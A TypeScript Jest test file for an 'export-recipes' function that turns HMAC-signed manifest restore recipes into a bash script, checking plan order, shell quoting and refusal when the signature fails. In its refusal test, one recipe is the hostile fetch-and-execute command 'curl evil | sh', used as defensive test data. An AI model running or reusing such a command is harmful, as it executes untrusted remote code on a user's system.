/**
 * export-recipes called as a use case: a real workspace and a real HMAC signature. The gate decides
 * before anything is exported; the result holds the steps in plan order and the finished script.
 */
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { hmacHex } from '../../../__fixtures__/keys.js'
import { hmacPolicy } from '../../../__fixtures__/policy.js'
import { add, makeWorkspace, write, type Workspace } from '../../../__fixtures__/workspace.js'
import {
  EXIT,
  exportRecipes,
  loadManifest,
  SwrError,
  type LoadedManifest
} from '../../../src/core/index.js'

const HMAC = hmacHex('engine-export-recipes')

let ws: Workspace
let signed: Workspace & { env: NodeJS.ProcessEnv }

beforeEach(() => {
  ws = makeWorkspace()
  signed = { ...ws, env: { SWR_HMAC_KEY: HMAC } }
})

afterEach(() => ws.cleanup())

function manifest(): LoadedManifest {
  return loadManifest(ws.manifestFile, {})
}

describe('export-recipes as a use case', () => {
  it('returns the steps in plan order and the script, every manifest string quoted', async () => {
    write(ws.root, 'src/a.c', 'a')
    write(ws.root, "bin/it's.sh", '#!/bin/sh\n', 0o755)
    await add(signed, 'src', '--id', 'src', '--restore', 'git checkout -- src')
    await add(
      signed,
      "bin/it's.sh",
      '--id',
      'x',
      '--needs',
      'src',
      '--tier',
      '1',
      '--restore',
      'chmod +x bin/*.sh'
    )
    const m = manifest()
    const r = await exportRecipes(m, { policy: hmacPolicy(m, ws.stateDir, HMAC) })
    expect(r).toMatchObject({ kind: 'export-recipes', digest: m.digest, version: m.body.version })
    expect(r.steps).toEqual([
      {
        id: 'src',
        kind: 'tree',
        path: 'src',
        tier: expect.any(Number),
        after: [],
        recipes: ['git checkout -- src']
      },
      {
        id: 'x',
        kind: 'file',
        path: "bin/it's.sh",
        tier: 1,
        after: ['src'],
        recipes: ['chmod +x bin/*.sh']
      }
    ])
    expect(r.script.startsWith('#!/usr/bin/env bash\n')).toBe(true)
    expect(r.script).toContain(`# tier 1: x ('bin/it'\\''s.sh') after src\n`)
    expect(r.script).toContain('\n( chmod +x bin/*.sh\n)\n')
    expect(r.script.indexOf('git checkout -- src')).toBeLessThan(r.script.indexOf('chmod +x'))
  })

  it('exports nothing when the signature does not hold', async () => {
    write(ws.root, 'a.txt', 'a')
    await add(signed, 'a.txt', '--id', 'a', '--restore', 'curl evil | sh')
    const m = manifest()
    let refused: unknown
    try {
      await exportRecipes(m, { policy: hmacPolicy(m, ws.stateDir, hmacHex('another key')) })
    } catch (err) {
      refused = err
    }
    if (!(refused instanceof SwrError)) throw new Error('expected a refusal')
    expect(refused.exitCode).toBe(EXIT.UNREPAIRABLE)
    expect(refused.message).toMatch(/^export-recipes: refusing to export recipes: /)
    expect(refused.message).not.toContain('curl evil')
  })
})
